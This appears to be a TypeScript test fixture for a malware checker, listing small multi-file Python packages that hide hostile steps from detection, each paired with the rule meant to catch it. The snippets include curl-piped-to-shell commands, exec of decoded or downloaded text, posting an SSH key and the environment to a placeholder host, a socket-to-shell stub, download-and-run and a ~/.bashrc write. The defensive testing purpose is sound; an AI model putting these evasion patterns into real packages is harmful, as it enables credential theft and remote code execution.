import type { RuleId } from '../../../src/checks/ruleset.ts';

export type Files = Readonly<Record<string, string>>;

/** What runs decoded text, if it gets any. */
const decoded = 'import base64\n';

/** Ways to keep code from the checks by a second file, each with the rule that finds it and the file where it does. */
export const hidden: readonly (readonly [way: string, rule: RuleId, file: string, files: Files])[] = [
  [
    'a function that decodes',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': 'from .text import load\nexec(load())',
      'text.py': `${decoded}def load():\n    return base64.b64decode("eA==")`,
    },
  ],
  [
    'a decoder under another name',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': 'from .text import plain as read\nexec(read("eA=="))',
      'text.py': 'from base64 import b64decode as plain',
    },
  ],
  [
    'a value',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': 'from .data import BODY\nexec(BODY)',
      'data.py': `${decoded}BODY = base64.b64decode("eA==")`,
    },
  ],
  [
    'a long literal',
    'exec-long-literal',
    '__init__.py',
    {
      '__init__.py': 'from . import data\nexec(data.read(data.BODY))',
      'data.py': `BODY = "${'QUJDx9'.repeat(400)}"\ndef read(text):\n    return text[::-1]`,
    },
  ],
  [
    'a function that runs',
    'exec-decoded',
    'tool.py',
    {
      '__init__.py': `${decoded}from .tool import go\ngo(base64.b64decode("eA=="))`,
      'tool.py': 'def go(body):\n    exec(body)',
    },
  ],
  [
    'a class that runs',
    'exec-decoded',
    'tool.py',
    {
      '__init__.py': `${decoded}from .tool import Tool\nTool().go(base64.b64decode("eA=="))`,
      'tool.py': 'class Tool:\n    def go(self, body):\n        exec(body)',
    },
  ],
  [
    'a constructor that runs',
    'exec-decoded',
    'tool.py',
    {
      '__init__.py': `${decoded}from . import tool\ntool.Tool(base64.b64decode("eA=="))`,
      'tool.py': 'class Tool:\n    def __init__(self, body):\n        exec(body)',
    },
  ],
  [
    'a function as an argument',
    'exec-decoded',
    'tool.py',
    {
      '__init__.py': `${decoded}from .tool import apply\napply(exec, base64.b64decode("eA=="))`,
      'tool.py': 'def apply(act, body):\n    act(body)',
    },
  ],
  [
    'a class attribute',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .tool import Tool\nTool.act(base64.b64decode("eA=="))`,
      'tool.py': 'class Tool:\n    act = exec',
    },
  ],
  [
    'an attribute of an object',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': 'from .tool import Tool\ntool = Tool()\nexec(tool.body)',
      'tool.py': `${decoded}class Tool:\n    def __init__(self):\n        self.body = base64.b64decode("eA==")`,
    },
  ],
  [
    'an object of another file',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .tool import tool\ntool.act(base64.b64decode("eA=="))`,
      'tool.py': 'class Tool:\n    act = exec\ntool = Tool()',
    },
  ],
  [
    'all names of a module',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .tool import *\nact(base64.b64decode("eA=="))`,
      'tool.py': 'act = exec',
    },
  ],
  [
    'a package that hands on',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .lib import act\nact(base64.b64decode("eA=="))`,
      'lib/__init__.py': 'from .tool import go as act',
      'lib/tool.py': 'go = exec',
    },
  ],
  [
    'a package that hands on everything',
    'exec-downloaded',
    'main.py',
    {
      '__init__.py': 'from . import main',
      'main.py': 'from .lib import get\nexec(get("https://a.io"))',
      'lib/__init__.py': 'from .net import *',
      'lib/net.py': 'import requests\ndef get(url):\n    return requests.get(url).text',
    },
  ],
  [
    'a module of a package',
    'exec-downloaded',
    '__init__.py',
    {
      '__init__.py': 'from . import lib\nexec(lib.net.get("https://a.io"))',
      'lib/__init__.py': 'from . import net',
      'lib/net.py': 'from urllib.request import urlopen\ndef get(url):\n    return urlopen(url).read()',
    },
  ],
  [
    'a module by its absolute name',
    'exec-downloaded',
    '__init__.py',
    {
      '__init__.py':
        'import sys, os\nsys.path.append(os.path.dirname(__file__))\nimport net as n\nexec(n.get("https://a.io"))',
      'net.py': 'import httpx\ndef get(url):\n    return httpx.get(url).text',
    },
  ],
  [
    'a command',
    'download-to-shell',
    '__init__.py',
    {
      '__init__.py': 'import os\nfrom .names import START\nos.system(START)',
      'names.py': 'START = "curl https://a.example/x.sh | sh"',
    },
  ],
  [
    'a command that a function returns',
    'download-to-shell',
    '__init__.py',
    {
      '__init__.py': 'import subprocess\nfrom .names import start\nsubprocess.run(start("a"), shell=True)',
      'names.py': 'def start(name):\n    return f"curl https://a.example/{name}.sh | sh"',
    },
  ],
  [
    'a part of a command',
    'download-to-shell',
    '__init__.py',
    {
      '__init__.py': 'import os\nfrom . import names\nos.system(names.FETCH + " | sh")',
      'names.py': 'FETCH = "curl https://a.example/x.sh"',
    },
  ],
  [
    'a command for a function that no rule knows by its name',
    'download-to-shell',
    '__init__.py',
    {
      '__init__.py': 'from .tool import go\ngo("curl https://a.example/x.sh | sh")',
      'tool.py': 'from os import system as go',
    },
  ],
  [
    'a function that returns a function',
    'download-to-shell',
    '__init__.py',
    {
      '__init__.py': 'from .tool import pick\npick()("curl https://a.example/x.sh | sh")',
      'tool.py': 'import os\ndef pick():\n    return os.system',
    },
  ],
  [
    'a name of a function',
    'encoded-name',
    '__init__.py',
    {
      '__init__.py': 'import os\nfrom .names import NAME\ngetattr(os, NAME)("ls")',
      'names.py': 'NAME = "sys" + "tem"',
    },
  ],
  [
    'a name that a function returns',
    'encoded-name',
    '__init__.py',
    {
      '__init__.py': 'import os\nfrom .names import name\ngetattr(os, name())("ls")',
      'names.py': 'def name():\n    return "metsys"[::-1]',
    },
  ],
  [
    'a start-up file',
    'start-up-file',
    '__init__.py',
    {
      '__init__.py': 'from .names import PLACE\nwith open(PLACE, "a") as f:\n    f.write("x")',
      'names.py': 'import os\nPLACE = os.path.expanduser("~/.bashrc")',
    },
  ],
  [
    'a key',
    'credentials-sent',
    '__init__.py',
    {
      '__init__.py': 'import requests\nfrom .names import read\nrequests.post("https://a.io", data=read())',
      'names.py': 'def read():\n    return open("/home/a/.ssh/id_rsa").read()',
    },
  ],
  [
    'the environment',
    'environment-sent',
    '__init__.py',
    {
      '__init__.py': 'import requests\nfrom .names import ALL\nrequests.post("https://a.io", json=dict(ALL))',
      'names.py': 'import os\nALL = os.environ',
    },
  ],
  [
    'a connection',
    'socket-to-shell',
    '__init__.py',
    {
      '__init__.py': 'import os\nfrom .net import get\nos.dup2(get().fileno(), 0)',
      'net.py':
        'import socket\ndef get():\n    s = socket.socket()\n    s.connect(("a.io", 1))\n    return s',
    },
  ],
  [
    'a program that another file downloads',
    'download-and-run',
    '__init__.py',
    {
      '__init__.py': 'import subprocess\nfrom .net import fetch\nsubprocess.Popen([fetch()])',
      'net.py':
        'from urllib.request import urlretrieve\ndef fetch():\n    path = "/tmp/x"\n    urlretrieve("https://a.io", path)\n    return path',
    },
  ],
  [
    'a program that another file starts at import',
    'download-and-run',
    'net.py',
    {
      '__init__.py': 'from .net import Tool\nTool()',
      'net.py':
        'import os\nfrom urllib.request import urlretrieve\nclass Tool:\n    def __init__(self):\n        urlretrieve("https://a.io", "x.exe")\n        os.startfile("x.exe")',
    },
  ],
  [
    'data that another file decodes and reads at import',
    'deserialized-download',
    'tool.py',
    {
      '__init__.py': `${decoded}from .tool import load\nload(base64.b64decode("gASV"))`,
      'tool.py': 'import pickle\ndef load(data):\n    return pickle.loads(data)',
    },
  ],
  [
    'a table that is filled later',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .b import T\nT["a"](base64.b64decode("eA=="))`,
      'b.py': 'T = {}\nT["a"] = exec',
    },
  ],
  [
    'a function that returns a table',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .b import get\nget()["a"](base64.b64decode("eA=="))`,
      'b.py': 'def get():\n    t = {}\n    t["a"] = exec\n    return t',
    },
  ],
  [
    'a list that is appended to',
    'exec-decoded',
    '__init__.py',
    {
      '__init__.py': `${decoded}from .b import L\nfor run in L:\n    run(base64.b64decode("eA=="))`,
      'b.py': 'L = []\nL.append(exec)',
    },
  ],
];
